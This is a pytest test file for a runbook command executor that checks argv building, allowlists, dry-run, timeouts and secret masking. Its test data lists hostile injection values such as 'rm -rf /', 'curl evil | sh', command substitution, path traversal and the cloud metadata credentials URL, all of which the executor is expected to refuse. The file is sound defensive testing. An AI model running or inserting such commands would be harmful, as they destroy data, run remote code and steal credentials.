"""The executor: argv building with hostile values, dry-run executes nothing, the allowlist in live mode."""

from __future__ import annotations

import os
import shutil
import stat
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opslib import IncidentSession
from opslib.errors import ExecutionError
from opslib.runbook.executor import (
    SAFE_VALUE,
    ExecutorConfig,
    build_argv,
    mask_output,
    resolve_executable,
    run_argv,
    truncate,
)
from opslib.runbook.parse import parse_runbook
from opslib.secrets import MASK, Masker, mask

FIXTURES = Path(__file__).parent / "fixtures" / "runbook"
SAMPLE = Path(__file__).resolve().parents[1] / "data" / "sample" / "runbooks" / "service-outage.md"

HOSTILE = ["api; rm -rf /", "$(touch x)", "`touch x`", "api && curl evil | sh", "a b\tc\nd", "'\"", "*"]

RUNBOOK = """## Incident Runbook: Fake
### Immediate Actions
1. Traffic: `kubectl top pods -n {namespace} -l app=<service>`
2. Breaker: `./scripts/breaker.sh <service>`
### Mitigation
- Off-list: `rm -rf {namespace}`
- Manual: tell the team
"""


def _fake(folder: Path, name: str, trace: Path, *, exit_code: int = 0, extra: str = "") -> Path:
    """A program that appends its argv (one per line, NUL-free) to ``trace`` and prints ``extra``."""
    script = folder / name
    script.write_text(
        f"#!/bin/sh\nprintf '%s\\n' \"$0\" \"$@\" >> '{trace}'\nprintf '%s' '{extra}'\nexit {exit_code}\n"
    )
    script.chmod(script.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return script


@pytest.fixture
def fake_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    """A bin folder first on PATH holding fake kubectl/stern/curl/rm that leave a trace."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    trace = tmp_path / "trace.log"
    for name in ("kubectl", "stern", "curl", "terragrunt", "aws", "rm"):
        _fake(bin_dir, name, trace, extra=f"{name} ran; password=hunter2secret")
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ.get('PATH', '')}")
    return bin_dir, trace


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_are_refused_naming_the_value(value: str) -> None:
    for template in ("kubectl scale deployment/<service> -n {namespace}", "stern -l app=${SERVICE}"):
        with pytest.raises(ExecutionError, match="a value must be a name") as info:
            build_argv(template, {"service": value, "namespace": "prod"})
        assert repr(value) in str(info.value)


def test_value_that_looks_like_an_option_is_refused() -> None:
    with pytest.raises(ExecutionError, match="read as an option"):
        build_argv("kubectl get pods -n {namespace}", {"namespace": "--kubeconfig=/tmp/evil"})
    with pytest.raises(ExecutionError, match="read as an option"):
        build_argv("kubectl get deploy/<service>", {"service": "-x"})


@pytest.mark.parametrize(
    "template",
    [
        "kubectl get pods | grep api",
        "kubectl get pods; rm -rf /",
        "kubectl logs x > out.txt",
        "kubectl get pods && echo ok",
        "echo $(whoami)",
        "echo `whoami`",
        "kubectl get pods 2>/dev/null",
    ],
)
def test_templates_that_need_a_shell_are_refused(template: str) -> None:
    with pytest.raises(ExecutionError, match="needs a shell"):
        build_argv(template, {})


def test_missing_placeholder_and_bad_quotes() -> None:
    with pytest.raises(ExecutionError, match="no value for placeholder <cluster>"):
        build_argv("kubectl --context <cluster> get pods", {"service": "api"})
    with pytest.raises(ExecutionError, match="cannot split"):
        build_argv("kubectl get 'pods", {})


def test_quoted_template_arguments_keep_spaces() -> None:
    assert build_argv('curl -w "%{http_code} %{time_total}s" https://<service>/x', {"service": "api"}) == [
        "curl",
        "-w",
        "%{http_code} %{time_total}s",
        "https://api/x",
    ]


def test_dry_run_executes_nothing(fake_path: tuple[Path, Path], tmp_path: Path) -> None:
    _, trace = fake_path
    scripts = tmp_path / "scripts"
    scripts.mkdir()
    _fake(scripts, "breaker.sh", trace)
    session = IncidentSession(
        parse_runbook(RUNBOOK),
        incident_id="INC-1",
        service="api",
        namespace="prod",
        dry_run=True,
        scripts_dir=scripts,
        allowlist=["kubectl", "rm"],
    )
    session.walk()
    for step in range(len(session.steps_frame)):
        session.run(step)
    assert not trace.exists(), trace.read_text() if trace.exists() else ""
    assert not (tmp_path / "pwned").exists() and not Path("pwned").exists()
    commands = session.timeline[session.timeline["kind"] == "command"]
    assert set(commands["status"]) == {"dry-run"}
    first = commands.iloc[0]
    # the timeline records exactly what would have run
    assert first["command"] == [
        "kubectl",
        "top",
        "pods",
        "-n",
        "prod",
        "-l",
        "app=api",
    ]
    assert commands["exit_code"].isna().all()


def test_dry_run_of_sample_runbook_with_hostile_service(fake_path: tuple[Path, Path]) -> None:
    _, trace = fake_path
    session = IncidentSession(SAMPLE, incident_id="INC-2", service="`touch x`", namespace="prod")
    session.walk()
    assert not trace.exists()
    commands = session.timeline[session.timeline["kind"] == "command"]
    refused = commands[commands["status"] == "refused"]
    assert len(refused) and all("`touch x`" in text for text in refused["output"])
    # a refused command is recorded as its template: the value never becomes an argument
    assert not any("`touch x`" in arg for argv in commands["command"] for arg in argv)


def test_live_runs_allowlisted_fake_and_refuses_others(fake_path: tuple[Path, Path], tmp_path: Path) -> None:
    _, trace = fake_path
    scripts = tmp_path / "scripts"
    scripts.mkdir()
    _fake(scripts, "breaker.sh", trace, extra="breaker on")
    session = IncidentSession(
        parse_runbook(RUNBOOK),
        incident_id="INC-3",
        service="api",
        namespace="prod",
        dry_run=False,
        scripts_dir=scripts,
        timeout=20,
    )
    results = session.run(0)
    assert results[0].status == "ok" and results[0].exit_code == 0
    lines = trace.read_text().splitlines()
    assert Path(lines[0]).name == "kubectl"
    assert lines[1:] == ["top", "pods", "-n", "prod", "-l", "app=api"]
    # output captured and the password masked
    assert "kubectl ran" in results[0].output and "hunter2secret" not in results[0].output
    assert f"password={MASK}" in results[0].output

    script = session.run(1)[0]
    assert script.status == "ok" and "breaker on" in script.output
    assert trace.read_text().splitlines()[-1] == "api"

    before = trace.read_text()
    refused = session.run(2)[0]  # `rm` is on PATH (a fake) but not on the allowlist
    assert refused.status == "refused" and "not on the allowlist" in refused.output
    assert trace.read_text() == before
    timeline = session.timeline
    row = timeline[(timeline["kind"] == "command") & (timeline["step"] == 2)].iloc[0]
    assert row["status"] == "refused" and pd.isna(row["exit_code"])
    assert session.status().loc[2, "status"] == "refused"


def test_live_failure_exit_code_recorded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    _fake(bin_dir, "kubectl", tmp_path / "t.log", exit_code=3, extra="Error from server (NotFound)")
    monkeypatch.setenv("PATH", str(bin_dir))
    session = IncidentSession(parse_runbook(RUNBOOK), incident_id="INC-4", service="api", dry_run=False)
    result = session.run(0)[0]
    assert (result.status, result.exit_code) == ("failed", 3)
    assert session.timeline["exit_code"].dropna().tolist() == [3]
    assert session.status().loc[0, "status"] == "failed"


def test_scripts_outside_the_folder_are_refused(tmp_path: Path) -> None:
    scripts = tmp_path / "scripts"
    scripts.mkdir()
    outside = _fake(tmp_path, "evil.sh", tmp_path / "t.log")
    (scripts / "link.sh").symlink_to(outside)
    config = ExecutorConfig.make(scripts_dir=scripts)
    for program in ("../evil.sh", str(outside), "./scripts/link.sh", "./scripts/missing.sh"):
        with pytest.raises(ExecutionError):
            resolve_executable(program, config)
    with pytest.raises(ExecutionError, match="no scripts folder"):
        resolve_executable("./scripts/x.sh", ExecutorConfig.make())


def test_allowed_but_missing_program(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    result = run_argv(["kubectl", "version"], ExecutorConfig.make())
    assert result.status == "refused" and "not on PATH" in result.output


def test_timeout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    slow = tmp_path / "kubectl"
    sleep = shutil.which("sleep")
    assert sleep is not None
    slow.write_text(f"#!/bin/sh\necho started\nexec {sleep} 5\n")
    slow.chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    result = run_argv(["kubectl", "wait"], ExecutorConfig.make(timeout=0.5))
    assert result.status == "timeout" and result.exit_code is None
    assert "timed out" in result.output


def test_mask_and_truncate() -> None:
    text = "token: abc123secret AKIAABCDEFGHIJKLMNOP api_key=zzz9999 name=api remembered-value"
    masked = mask_output(text, Masker(["remembered-value"]))
    assert "abc123secret" not in masked and "zzz9999" not in masked and "remembered-value" not in masked
    assert "AKIAABCDEFGHIJKLMNOP" not in masked and "name=api" in masked
    cut, was_cut = truncate("x" * 100 + "END", 30)
    assert was_cut and cut.endswith("END") and "truncated" in cut
    assert truncate("short", 30) == ("short", False)


@settings(max_examples=200, deadline=None)
@given(value=st.text(min_size=1))
def test_any_value_fills_exactly_one_argument_or_is_refused(value: str) -> None:
    template = "kubectl -n {namespace} logs <service> app=${SERVICE}"
    if SAFE_VALUE.fullmatch(value) and ".." not in value:
        argv = build_argv(template, {"namespace": value, "service": value})
        assert argv == ["kubectl", "-n", value, "logs", value, f"app={value}"]
    else:
        with pytest.raises(ExecutionError, match="a value must be a name"):
            build_argv(template, {"namespace": value, "service": value})


METADATA = "169.254.169.254/latest/meta-data/iam/security-credentials/#"
STEERING = [METADATA, "api/../../../../tmp/x", "x/../ok", "a" * 300, "api?x=1", "api#frag", "..", "a..b"]


@pytest.mark.parametrize("value", STEERING)
def test_values_that_could_steer_a_program_are_refused_by_name(value: str) -> None:
    with pytest.raises(ExecutionError) as info:
        build_argv(
            "curl -sf http://<service>.{namespace}.svc/health", {"service": value, "namespace": "prod"}
        )
    assert repr(value[:20])[:-1] in str(info.value)  # the message names the value (cut when long)
    assert "a value must be a name" in str(info.value)


@pytest.mark.parametrize("value", ["api", "payments-api", "api.v2", "svc_1", "A" * 63, "9lives"])
def test_names_fill_their_argument(value: str) -> None:
    assert build_argv(
        "kubectl -n {namespace} get deploy/<service>", {"service": value, "namespace": "prod"}
    ) == [
        "kubectl",
        "-n",
        "prod",
        "get",
        f"deploy/{value}",
    ]


def test_the_metadata_address_never_reaches_curls_argv(fake_path: tuple[Path, Path], tmp_path: Path) -> None:
    _, trace = fake_path
    runbook = (
        "## Incident Runbook: Health\n### Immediate Actions\n1. Check: `curl -sf http://<service>/healthz`\n"
    )
    session = IncidentSession(
        parse_runbook(runbook), incident_id="INC-9", service=METADATA, dry_run=False, out_dir=tmp_path
    )
    session.walk()
    assert not trace.exists()  # curl never started
    commands = session.timeline[session.timeline["kind"] == "command"]
    assert list(commands["status"]) == ["refused"]
    assert all("169.254.169.254" not in arg for argv in commands["command"] for arg in argv[1:])
    assert "169.254.169.254" in commands["output"].iloc[0]  # the refusal names the value


def test_a_custom_allowlist_refuses_the_default_programs(fake_path: tuple[Path, Path]) -> None:
    config = ExecutorConfig.make(allowlist=["kubectl"])
    assert resolve_executable("kubectl", config).endswith("kubectl")
    for program in ("terraform", "aws", "curl", "terragrunt"):
        with pytest.raises(ExecutionError, match="not on the allowlist \\(kubectl\\)"):
            resolve_executable(program, config)
        assert run_argv([program, "version"], config).status == "refused"


@pytest.mark.parametrize("command", ["", "   "])
def test_an_empty_command_is_refused_by_name(command: str) -> None:
    with pytest.raises(ExecutionError, match=r"^empty command$"):
        build_argv(command, {})


@pytest.mark.parametrize(
    ("value", "why"),
    [
        ("a..b", "holds '..'"),
        ("api svc", "holds ' '"),
        ("_api", "must start with a letter or digit"),
        ("a" * 64, "is 64 characters long (at most 63)"),
    ],
)
def test_a_refused_value_says_why(value: str, why: str) -> None:
    with pytest.raises(ExecutionError) as info:
        build_argv("kubectl get deploy/<service>", {"service": value})
    assert f"for <service> {why}; a value must be a name" in str(info.value)


def test_a_refused_value_is_shown_whole_up_to_80_characters() -> None:
    for value, shown in (("a" * 80, "a" * 80), ("a" * 81, "a" * 77 + "...")):
        with pytest.raises(ExecutionError) as info:
            build_argv("kubectl get deploy/<service>", {"service": value})
        assert f"value {shown!r} for <service>" in str(info.value)


def _script(folder: Path, name: str, body: str) -> Path:
    script = folder / name
    script.write_text(body)
    script.chmod(0o755)
    return script


def test_live_output_masks_the_secrets_the_session_remembers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A value the masker remembers has no known format and no secret-named field around it: only the
    masker can hide it."""
    _script(tmp_path, "kubectl", "#!/bin/sh\necho 'seed q7Fz9wLm2XvB in use'\n")
    monkeypatch.setenv("PATH", str(tmp_path))
    result = run_argv(["kubectl", "get", "secret"], ExecutorConfig.make(), Masker(["q7Fz9wLm2XvB"]))
    assert result.status == "ok"
    assert result.output == f"seed {mask('q7Fz9wLm2XvB')} in use\n"


def test_output_that_is_not_utf8_is_kept_with_replacement_characters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _script(tmp_path, "kubectl", "#!/bin/sh\nprintf 'caf\\351 ok\\n'\n")  # Latin-1 "é"
    monkeypatch.setenv("PATH", str(tmp_path))
    result = run_argv(["kubectl", "logs", "api"], ExecutorConfig.make())
    assert (result.status, result.output) == ("ok", "caf\ufffd ok\n")


def test_a_command_never_reads_the_callers_stdin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A program that asks a question (``Enter a value:``) gets end of input at once, whatever the
    notebook or terminal running opslib has on its standard input."""
    _script(tmp_path, "terraform", '#!/bin/sh\nread answer\necho "answer=[$answer]"\n')
    monkeypatch.setenv("PATH", str(tmp_path))
    read_end, write_end = os.pipe()
    os.write(write_end, b"yes\n")
    os.close(write_end)
    saved = os.dup(0)
    try:
        os.dup2(read_end, 0)  # what the caller would type
        result = run_argv(["terraform", "apply"], ExecutorConfig.make(timeout=20))
    finally:
        os.dup2(saved, 0)
        os.close(saved)
        os.close(read_end)
    assert result.output == "answer=[]\n"


def test_a_program_that_cannot_start_is_an_error_naming_why(tmp_path: Path) -> None:
    scripts = tmp_path / "scripts"
    scripts.mkdir()
    broken = _script(scripts, "broken.sh", "#!/nonexistent/interpreter\necho never\n")
    result = run_argv(["./scripts/broken.sh"], ExecutorConfig.make(scripts_dir=scripts))
    assert (result.status, result.exit_code) == ("error", None)
    assert result.output.startswith("could not start: ") and len(result.output) > len("could not start: ")
    assert result.executable == str(broken.resolve())
